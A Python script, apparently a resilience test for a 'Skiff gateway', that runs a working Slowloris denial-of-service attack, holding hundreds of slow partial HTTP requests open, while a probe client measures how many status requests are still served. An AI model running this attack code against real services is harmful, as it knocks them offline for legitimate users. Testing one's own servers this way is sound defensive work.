#!/usr/bin/env python3
"""Slowloris against a Skiff gateway, while a well-behaved client keeps probing it.

Opens CONNECTIONS connections from --source, each sending an unfinished request and then one header
line every --interval seconds (reopening any the server closes), and meanwhile sends GET /status from
127.0.0.1 on a new connection every 0.1 s with a 5 s timeout. Prints how many probes were answered.
"""
import argparse, socket, threading, time

def main():
    p = argparse.ArgumentParser()
    p.add_argument("--target", required=True, help="host:port of the gateway")
    p.add_argument("--source", default="127.0.0.2")
    p.add_argument("--connections", type=int, default=300)
    p.add_argument("--interval", type=float, default=2.0)
    p.add_argument("--duration", type=float, default=30.0)
    a = p.parse_args()
    host, port = a.target.rsplit(":", 1)
    port = int(port)
    stop = threading.Event()
    closed = [0]

    def open_one():
        s = socket.socket()
        s.settimeout(2)
        try:
            s.bind((a.source, 0)); s.connect((host, port))
            s.sendall(b"GET /status HTTP/1.1\r\nHost: x\r\n")
            return s
        except OSError:
            s.close(); return None

    def attack():
        socks = [open_one() for _ in range(a.connections)]
        n = 0
        while not stop.wait(a.interval):
            n += 1
            for i, s in enumerate(socks):
                if s is None:
                    socks[i] = open_one(); continue
                try:
                    s.sendall(b"X-Slow-%d: x\r\n" % n)
                except OSError:
                    closed[0] += 1; s.close(); socks[i] = open_one()
        for s in socks:
            if s: s.close()

    t = threading.Thread(target=attack, daemon=True); t.start()
    time.sleep(min(3.0, a.interval + 1))
    served = failed = 0
    latencies = []
    end = time.time() + a.duration
    while time.time() < end:
        start = time.time()
        try:
            with socket.create_connection((host, port), timeout=5) as s:
                s.settimeout(5)
                s.sendall(b"GET /status HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n")
                data = b""
                while True:
                    chunk = s.recv(65536)
                    if not chunk: break
                    data += chunk
            if data.startswith(b"HTTP/1.1 200"):
                served += 1; latencies.append(time.time() - start)
            else:
                failed += 1
        except OSError:
            failed += 1
        time.sleep(0.1)
    stop.set(); t.join(10)
    latencies.sort()
    p50 = latencies[len(latencies) // 2] * 1000 if latencies else float("nan")
    mx = latencies[-1] * 1000 if latencies else float("nan")
    print(f"connections={a.connections} interval={a.interval}s duration={a.duration}s "
          f"probes={served + failed} served={served} failed={failed} p50_ms={p50:.1f} max_ms={mx:.1f} "
          f"attack_connections_closed_by_server={closed[0]}")

if __name__ == "__main__":
    main()
